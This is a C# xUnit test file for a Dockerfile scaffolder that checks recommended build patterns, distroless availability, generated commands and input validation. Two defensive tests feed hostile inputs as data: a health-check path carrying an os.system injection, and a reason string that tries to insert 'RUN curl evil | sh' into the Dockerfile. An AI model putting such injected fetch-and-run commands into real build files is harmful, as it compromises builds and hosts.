using PyDockerLsp.Core.Scaffolding;

namespace PyDockerLsp.Core.Tests.Scaffolding;

public class ScaffolderRecommendationTests
{
    private static readonly Scaffolder Scaffolder = new();

    public static IEnumerable<object[]> RecommendedByManager() => new[]
    {
        new object[] { PackageManager.Uv, PatternId.Uv, "uv.lock found" },
        new object[] { PackageManager.Poetry, PatternId.Poetry, "poetry.lock found" },
        new object[] { PackageManager.Pipenv, PatternId.Pipenv, "Pipfile.lock found" },
        new object[] { PackageManager.PipRequirements, PatternId.BuilderVenv, "requirements.txt found" },
        new object[] { PackageManager.PipPyProject, PatternId.BuilderVenv, "pyproject.toml" },
    };

    [Theory]
    [MemberData(nameof(RecommendedByManager))]
    public void The_package_managers_own_pattern_comes_first_with_the_detection_reason(PackageManager manager, PatternId expected, string reasonPart)
    {
        var recommendation = Scaffolder.Recommend(ScaffoldFixtures.Inputs(manager, FixtureFramework.FastApi));
        Assert.Equal(expected, recommendation.Recommended.Pattern.Id);
        Assert.True(recommendation.Recommended.IsAvailable);
        Assert.True(recommendation.Recommended.IsRecommended);
        Assert.Contains(reasonPart, recommendation.Recommended.Reason);
        Assert.Equal(ScaffoldPatterns.All.Count, recommendation.Choices.Count);
        Assert.Single(recommendation.Choices, c => c.IsRecommended);
    }

    [Theory]
    [MemberData(nameof(RecommendedByManager))]
    public void Available_patterns_come_before_unavailable_ones_and_every_choice_has_a_reason(PackageManager manager, PatternId recommended, string reasonPart)
    {
        var choices = Scaffolder.Recommend(ScaffoldFixtures.Inputs(manager, FixtureFramework.Django)).Choices;
        Assert.Equal(recommended, choices[0].Pattern.Id);
        Assert.Contains(reasonPart, choices[0].Reason);
        int firstUnavailable = choices.ToList().FindIndex(c => !c.IsAvailable);
        if (firstUnavailable >= 0) Assert.All(choices.Skip(firstUnavailable), c => Assert.False(c.IsAvailable));
        Assert.All(choices, c => Assert.False(string.IsNullOrWhiteSpace(c.Reason)));
    }

    public static IEnumerable<object[]> Availability() => new[]
    {
        // pattern, manager, available, a word of the reason
        new object[] { PatternId.BuilderVenv, PackageManager.Uv, false, "uv.lock" },
        new object[] { PatternId.BuilderVenv, PackageManager.Poetry, false, "poetry.lock" },
        new object[] { PatternId.BuilderVenv, PackageManager.PipRequirements, true, "/venv" },
        new object[] { PatternId.Uv, PackageManager.PipRequirements, true, "uv pip install" },
        new object[] { PatternId.Uv, PackageManager.PipPyProject, true, "uv pip install" },
        new object[] { PatternId.Uv, PackageManager.Poetry, false, "poetry.lock" },
        new object[] { PatternId.Uv, PackageManager.Pipenv, false, "Pipfile.lock" },
        new object[] { PatternId.Poetry, PackageManager.Uv, false, "poetry.lock" },
        new object[] { PatternId.Pipenv, PackageManager.Poetry, false, "Pipfile.lock" },
        new object[] { PatternId.DevTestStages, PackageManager.Pipenv, true, "[dev-packages]" },
        new object[] { PatternId.DevTestStages, PackageManager.PipRequirements, true, "requirements-dev.txt" },
        new object[] { PatternId.DevTestStages, PackageManager.PipPyProject, true, "unittest" },
        new object[] { PatternId.Distroless, PackageManager.Uv, true, "Python 3.13" },
    };

    [Theory]
    [MemberData(nameof(Availability))]
    public void Each_pattern_says_whether_it_applies_and_why(PatternId pattern, PackageManager manager, bool available, string reasonPart)
    {
        var choice = Scaffolder.Check(ScaffoldFixtures.Inputs(manager, FixtureFramework.Flask), pattern);
        Assert.Equal(available, choice.IsAvailable);
        Assert.Contains(reasonPart, choice.Reason);
    }

    [Fact]
    public void Distroless_is_unavailable_when_the_dependencies_need_system_libraries_at_run_time()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.Django) with
        {
            NativeNeeds = new NativeNeeds(new[] { "libpq-dev" }, new[] { "libpq5" }, "psycopg2"),
        };
        var choice = Scaffolder.Check(inputs, PatternId.Distroless);
        Assert.False(choice.IsAvailable);
        Assert.Contains("libpq5", choice.Reason);
    }

    [Fact]
    public void Distroless_is_available_with_build_only_native_packages()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.Django) with
        {
            NativeNeeds = new NativeNeeds(new[] { "gcc" }, Array.Empty<string>(), "a C extension without shared libraries"),
        };
        Assert.True(Scaffolder.Check(inputs, PatternId.Distroless).IsAvailable);
    }

    public static IEnumerable<object[]> DistrolessPythons() => new[]
    {
        new object[] { new[] { "3.12", "3.13", "3.14" }, "python:3.13-slim-trixie", "gcr.io/distroless/python3-debian13:nonroot" },
        new object[] { new[] { "3.10", "3.11" }, "python:3.11-slim-bookworm", "gcr.io/distroless/python3-debian12:nonroot" },
        new object[] { Array.Empty<string>(), "python:3.13-slim-trixie", "gcr.io/distroless/python3-debian13:nonroot" },
    };

    [Theory]
    [MemberData(nameof(DistrolessPythons))]
    public void Distroless_uses_the_newest_allowed_distroless_python_and_a_builder_on_the_same_debian(string[] allowed, string builder, string final)
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.PipRequirements, FixtureFramework.Flask) with { AllowedPythonVersions = allowed };
        var dockerfile = DockerfileText.Parse(Scaffolder.Generate(inputs, PatternId.Distroless)[0].Text);
        Assert.Equal(builder, dockerfile.Stages[0].BaseImage);
        Assert.Equal(final, dockerfile.FinalStage!.BaseImage);
        var pythonVersion = builder.Substring("python:".Length, 4);
        Assert.Contains(dockerfile.Instructions, i => i.Keyword == "COPY" && i.Arguments == $"--from=builder /venv/lib/python{pythonVersion}/site-packages /opt/site-packages");
    }

    [Fact]
    public void Distroless_is_unavailable_when_the_project_allows_neither_distroless_python()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.FastApi) with { AllowedPythonVersions = new[] { "3.12" } };
        var choice = Scaffolder.Check(inputs, PatternId.Distroless);
        Assert.False(choice.IsAvailable);
        Assert.Contains("3.13 or 3.11", choice.Reason);
    }

    [Fact]
    public void Distroless_needs_the_function_a_console_script_calls()
    {
        var script = new EntryPoint(EntryPointKind.ConsoleScript, "shop-worker");
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.Script) with { EntryPoint = new(script, "[project.scripts] shop-worker") };
        Assert.False(Scaffolder.Check(inputs, PatternId.Distroless).IsAvailable);

        var withTarget = inputs with { EntryPoint = new(script with { ConsoleScriptTarget = "shop.worker:main" }, "[project.scripts] shop-worker") };
        var text = Scaffolder.Generate(withTarget, PatternId.Distroless)[0].Text;
        Assert.Contains("ENTRYPOINT [\"python\"]", text);
        Assert.Contains("CMD [\"-c\", \"import sys; from shop.worker import main; sys.exit(main())\"]", text);
        Assert.Contains("CMD [\"shop-worker\"]", Scaffolder.Generate(inputs, PatternId.Uv)[0].Text);
    }

    [Fact]
    public void A_private_index_leads_the_pip_recommendation_and_uses_a_secret_mount_only_in_the_builder()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.PipRequirements, FixtureFramework.Script) with
        {
            PrivateIndex = new PrivateIndex("pip.conf", null, "pip.conf in the project sets index-url"),
        };
        var recommendation = Scaffolder.Recommend(inputs);
        Assert.Equal(PatternId.BuilderVenv, recommendation.Recommended.Pattern.Id);
        Assert.Contains("private package index", recommendation.Recommended.Reason);
        var dockerfile = DockerfileText.Parse(Scaffolder.Generate(inputs, PatternId.BuilderVenv)[0].Text);
        var secretMounts = dockerfile.Instructions.Where(i => i.Arguments.Contains("--mount=type=secret,id=pipconf,target=/etc/pip.conf")).ToList();
        Assert.NotEmpty(secretMounts);
        Assert.All(secretMounts, i => Assert.DoesNotContain(i.Index, dockerfile.FinalStage!.InstructionIndices));
        Assert.DoesNotContain(dockerfile.Instructions, i => i.Keyword is "COPY" or "ADD" && i.Arguments.Contains("pip.conf"));
    }

    [Fact]
    public void A_private_index_with_uv_gets_a_note_instead_of_a_pip_conf_mount()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.Script) with
        {
            PrivateIndex = new PrivateIndex(null, "pyproject.toml [[tool.uv.index]]", "[[tool.uv.index]] names https://pypi.example.com"),
        };
        var text = Scaffolder.Generate(inputs, PatternId.Uv)[0].Text;
        Assert.DoesNotContain("pipconf", text);
        Assert.Contains("# NOTE: The project uses a private package index", text);
        Assert.Contains("UV_INDEX_<NAME>_PASSWORD", text);
    }

    [Fact]
    public void A_missing_entry_point_is_guessed_and_said()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.Script) with { EntryPoint = null };
        var recommendation = Scaffolder.Recommend(inputs);
        Assert.Contains(recommendation.Notes, n => n.Contains("No entry point was found"));
        var text = Scaffolder.Generate(inputs, PatternId.Uv)[0].Text;
        Assert.Contains("# NOTE: No entry point was found; the command assumes `python -m shop`", text);
        Assert.Contains("CMD [\"python\", \"-m\", \"shop\"]", text);
    }

    [Fact]
    public void A_server_missing_from_the_dependencies_is_said()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Poetry, FixtureFramework.Django) with { ServerIsDependency = false };
        Assert.Contains(Scaffolder.Recommend(inputs).Notes, n => n.Contains("gunicorn"));
        Assert.Contains("`poetry add gunicorn`", Scaffolder.Generate(inputs, PatternId.Poetry)[0].Text);
    }

    public static IEnumerable<object[]> Commands() => new[]
    {
        new object[] { new EntryPoint(EntryPointKind.AsgiApplication, "app.main:create_app()"), null!, "[\"uvicorn\", \"--factory\", \"app.main:create_app\", \"--host\", \"0.0.0.0\", \"--port\", \"8000\"]" },
        new object[] { new EntryPoint(EntryPointKind.AsgiApplication, "mysite.asgi:application"), AppServer.Gunicorn, "[\"gunicorn\", \"--worker-class\", \"uvicorn.workers.UvicornWorker\", \"--bind\", \"0.0.0.0:8000\", \"mysite.asgi:application\"]" },
        new object[] { new EntryPoint(EntryPointKind.WsgiApplication, "mysite.wsgi:application") { WorkingDirectory = "src" }, null!, "[\"gunicorn\", \"--bind\", \"0.0.0.0:8000\", \"mysite.wsgi:application\"]" },
        new object[] { new EntryPoint(EntryPointKind.Script, "bin/run.py"), null!, "[\"python\", \"bin/run.py\"]" },
        new object[] { new EntryPoint(EntryPointKind.ConsoleScript, "shop-serve"), null!, "[\"shop-serve\"]" },
    };

    [Theory]
    [MemberData(nameof(Commands))]
    public void The_command_follows_the_entry_point_and_server(EntryPoint entryPoint, AppServer? server, string expectedCmd)
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.FastApi) with
        {
            EntryPoint = new(entryPoint, "test"),
            Server = server is { } s ? new(s, "chosen") : null,
        };
        var text = Scaffolder.Generate(inputs, PatternId.Uv)[0].Text;
        Assert.Contains("CMD " + expectedCmd + "\n", text);
        if (entryPoint.WorkingDirectory.Length > 0) Assert.Contains("WORKDIR /app/" + entryPoint.WorkingDirectory + "\n", text);
    }

    [Fact]
    public void A_src_layout_that_is_not_installed_is_put_on_PYTHONPATH()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Poetry, FixtureFramework.FastApi) with
        {
            Layout = new SourceLayout(SourceLayoutKind.Src, new[] { "src" }, "packages under src/"),
            IsInstallable = false,
        };
        Assert.Contains("PYTHONPATH=\"/app/src\"", Scaffolder.Generate(inputs, PatternId.Poetry)[0].Text);
        Assert.DoesNotContain("PYTHONPATH", Scaffolder.Generate(inputs with { IsInstallable = true }, PatternId.Poetry)[0].Text);
    }

    public static IEnumerable<object[]> BadInputs() => new[]
    {
        new object[] { ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.FastApi) with { PythonVersion = new("3", "x") } },
        new object[] { ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.FastApi) with { PythonVersion = new("3.12.1", "x") } },
        new object[] { ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.FastApi) with { Port = new(70000, "x") } },
        new object[] { ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.FastApi) with { HealthCheckPath = "/health'); import os; os.system('x" } },
        new object[] { ScaffoldFixtures.Inputs(PackageManager.PipRequirements, FixtureFramework.FastApi) with { RuntimeRequirementsFiles = new[] { "req uirements.txt" } } },
    };

    [Theory]
    [MemberData(nameof(BadInputs))]
    public void Inputs_that_cannot_be_written_safely_are_rejected(ScaffoldInputs inputs)
    {
        Assert.Throws<ArgumentException>(() => Scaffolder.Generate(inputs, inputs.PackageManager.Value == PackageManager.Uv ? PatternId.Uv : PatternId.BuilderVenv));
    }

    [Fact]
    public void Reasons_cannot_break_out_of_their_comment_line()
    {
        var inputs = ScaffoldFixtures.Inputs(PackageManager.Uv, FixtureFramework.FastApi) with
        {
            PythonVersion = new("3.12", "requires-python\nRUN curl evil | sh"),
        };
        var dockerfile = DockerfileText.Parse(Scaffolder.Generate(inputs, PatternId.Uv)[0].Text);
        Assert.DoesNotContain(dockerfile.Instructions, i => i.Arguments.Contains("evil"));
    }

    [Theory]
    [InlineData("uv", PatternId.Uv)]
    [InlineData("Builder-Venv", PatternId.BuilderVenv)]
    [InlineData(" distroless ", PatternId.Distroless)]
    public void Patterns_are_found_by_name(string name, PatternId expected)
    {
        Assert.True(ScaffoldPatterns.TryParse(name, out var id));
        Assert.Equal(expected, id);
    }

    [Fact]
    public void Unknown_pattern_names_are_not_found() => Assert.False(ScaffoldPatterns.TryParse("alpine", out _));
}
